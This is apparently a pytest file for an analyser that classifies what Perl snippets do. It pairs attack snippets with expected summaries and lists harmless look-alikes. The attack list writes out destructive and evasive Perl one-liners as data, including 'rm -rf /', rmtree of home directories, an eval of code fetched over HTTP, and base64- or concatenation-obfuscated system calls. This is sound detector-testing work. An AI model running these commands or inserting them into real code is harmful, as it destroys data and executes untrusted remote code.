"""What perl snippets do, and their harmless twins."""

from __future__ import annotations

from collections.abc import Callable

import pytest

LANGUAGE = "perl"
SCRIPTS = {"/w/helper.py": "pass"}
ATTACKS = [
    ("system('rm -rf /')", "shell rm -rf /"),
    ("system 'rm','-rf',$x", "argv rm -rf \x00"),
    ("`rm $x`", "shell rm \x00"),
    ("qx{rm q}", "shell rm q"),
    ("use File::Path; rmtree('/home/u')", "delete /home/u R"),
    ('File::Path::remove_tree("$ENV{HOME}/x")', "delete /home/u/x R"),
    ("unlink 'a','b'", "delete /w/b"),
    ("unlink glob('/tmp/*.x')", "delete /tmp/*.x G"),
    ("unlink <*.y>", "delete /w/*.y G"),
    ("unlink for ('c','d')", "delete /w/d"),
    ("eval 'sys'.'tem(1)'", "code perl system(1)"),
    ("&{'sys'.'tem'}('x')", "shell x"),
    ("f('n'); sub f { my ($a)=@_; unlink $a }", "delete /w/n"),
    ("sub h { my $b = shift; unlink $b } h('n')", "delete /w/n"),
    ("use LWP::Simple; eval get('http://e/x')", "run-fetched http://e/x"),
    ("open(F,'rm x|')", "shell rm x"),
    ("open(my $h,'-|','rm','y')", "argv rm y"),
    ("s/a/unlink('q')/e", "code perl unlink('q')"),
    ("unlink $ARGV[0]", "delete /w/A1"),
    ("exec {'rm'} 'rm','-rf','/'", "argv rm -rf /"),
    ("map { unlink $_ } ('m1','m2')", "delete /w/m2"),
    ("use MIME::Base64; system(decode_base64('cm0='))", "shell rm"),
    ("open(F,'>/etc/x')", "write /etc/x"),
    ("for my $f (qw(a b)) { unlink $f }", "delete /w/b"),
]
HARMLESS = [
    "print 'rm -rf /'",
    "# system('rm')\n$x = 1",
    "s/foo/bar/g; $h{$F[0]}++; print join(',', map { $_ } @l)",
    'delete $h{x}; print qq{system("x")}',
]


@pytest.mark.parametrize(("source", "expected"), ATTACKS)
def test_found(brief_of: Callable[..., set[str]], source: str, expected: str) -> None:
    assert expected in brief_of(LANGUAGE, source, ("A1", "A2") if "A1" in expected else (), scripts=SCRIPTS)


@pytest.mark.parametrize("source", HARMLESS)
def test_harmless(brief_of: Callable[..., set[str]], source: str) -> None:
    assert brief_of(LANGUAGE, source) == set()
